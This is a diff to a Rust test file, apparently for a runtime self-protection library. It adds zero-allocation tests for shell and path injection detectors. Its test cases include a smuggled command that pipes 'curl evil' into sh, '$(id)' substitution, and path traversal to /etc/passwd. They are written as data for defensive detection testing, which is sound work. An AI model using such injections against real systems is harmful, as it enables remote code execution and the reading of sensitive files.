@@ -129,7 +129,11 @@ fn deciding_an_injection_under_a_policy() {
         .tenant("acme")
         .build();
     assert!(ctx.record_input(&SRC, attack.as_bytes()));
-    let n = ctx.scope(|| allocations(|| drop(black_box(check(&SITE, black_box(sql.as_bytes()))))));
+    let n = ctx.scope(|| {
+        allocations(|| {
+            let _ = black_box(check(&SITE, black_box(sql.as_bytes())));
+        })
+    });
     assert_eq!(n, 0);
 }
 
@@ -183,5 +187,39 @@ fn redirect_and_header_detectors() {
             black_box(header::detect_cookie(black_box(value), &finder));
         });
         assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(value));
+    }
+}
+
+#[test]
+fn shell_and_path_detectors() {
+    use memchr::memmem::Finder;
+    use rasp_core::detect::{path, shell};
+
+    let cases: [(&[u8], &[u8]); 4] = [
+        (b"convert 'q3 report.png' out.webp", b"q3 report.png"),
+        (b"dig +short x; curl evil | sh", b"x; curl evil | sh"),
+        (b"logger \"$(id)\"", b"$(id)"),
+        (b"--output=/tmp/x", b"--output=/tmp/x"),
+    ];
+    for (command, input) in cases {
+        let finder = Finder::new(input);
+        let n = allocations(|| {
+            black_box(shell::detect(black_box(command), &finder));
+            black_box(shell::detect_option(black_box(command), &finder));
+        });
+        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(command));
+    }
+    let cases: [(&[u8], &[u8]); 4] = [
+        (b"/srv/media/2024/v1..v2.webp", b"2024/v1..v2.webp"),
+        (b"/srv/media/../../etc/passwd", b"../../etc/passwd"),
+        (b"/etc/passwd", b"/etc/passwd"),
+        (b"/srv/media/a\0.png", b"a\0"),
+    ];
+    for (text, input) in cases {
+        let finder = Finder::new(input);
+        let n = allocations(|| {
+            black_box(path::detect(black_box(text), &finder));
+        });
+        assert_eq!(n, 0, "{:?}", String::from_utf8_lossy(text));
     }
 }
